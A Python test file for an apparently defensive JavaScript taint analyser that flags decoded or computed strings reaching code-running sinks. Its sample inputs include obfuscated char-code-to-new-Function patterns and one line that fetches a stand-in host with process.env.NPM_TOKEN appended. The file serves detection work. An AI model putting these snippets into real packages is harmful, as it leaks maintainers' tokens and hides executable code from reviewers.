"""Text of which only letters and digits are left."""

import pytest

from pratique.analysis.facts import Capability, Taint
from tests.analysis.languages.javascript.reading import facts


def hidden_code(source: str) -> list[str]:
    """The sinks of code that decoded data reaches."""
    return [
        flow.api
        for flow in facts(source).flows
        if flow.sink is Capability.CODE
        and {Taint.DECODED, Taint.DECRYPTED, Taint.COMPUTED} & set(flow.taints)
    ]


MAKES = (
    "exports.f = (codes, body) => {{ let n = ''; for (const c of codes) n += String.fromCharCode(c);\n{}\n }}"
)
RUNS = "return new Function('body', 'return function ' + m + '() {{ return body() }}')(body);"
LEGAL = ("/[^a-zA-Z0-9_]/g", "/\\W/g", "/[^\\w$]+/g", "/[^0-9a-zA-Z_$ -]/gi")


@pytest.mark.parametrize("pattern", LEGAL)
def test_a_name_that_is_made_legal_is_no_code(pattern: str) -> None:
    made_legal = MAKES.format(f"const m = n.replace({pattern}, '_');" + RUNS.format())

    assert [] == hidden_code(made_legal)


@pytest.mark.parametrize(
    "changed",
    [
        "const m = n;",
        "const m = n.replace(/[^a-zA-Z0-9_]/, '_');",
        "const m = n.replace(/[a-zA-Z0-9_]/g, '_');",
        "const m = n.replace(/[^a-zA-Z0-9_()]/g, '_');",
        "const m = n.replace(/[^(-z]/g, '_');",
        "const m = n.replace(/[^a-z-;]/g, '_');",
        "const m = n.replace(/\\W/g, '()');",
        "const m = n.replace(/\\W/g, '$&');",
        "const m = n.replace(/\\W/g, c => c);",
        "const m = n.replace(/\\W/g, '').split('z').join('(');",
        "const m = atob(n.replace(/\\W/g, ''));",
    ],
)
def test_any_other_text_may_be_code(changed: str) -> None:
    assert ["Function"] == hidden_code(MAKES.format(changed + RUNS.format()))


@pytest.mark.parametrize("asks", ["require(m)", "globalThis[m](body)", "import(m)"])
def test_it_may_be_a_hidden_name(asks: str) -> None:
    assert ["computed-call"] == hidden_code(
        MAKES.format(f"const m = n.replace(/[^a-z_]/g, ''); return {asks};")
    )


def test_what_it_was_made_of_is_sent_all_the_same() -> None:
    sent = facts(
        "exports.f = () => fetch('https://sink.invalid/' + process.env.NPM_TOKEN.replace(/\\W/g, '_'))"
    )

    assert [(Taint.ENVIRONMENT, Taint.SECRETS)] == [flow.taints for flow in sent.flows]


def test_text_that_is_written_as_utf_8_is_not_decoded() -> None:
    source = "exports.f = code => import(`data:text/javascript;base64,${btoa(%s)}`)"

    assert [] == hidden_code(source % "unescape(encodeURIComponent(code))")
    assert ["computed-call"] == hidden_code(source % "unescape(code)")
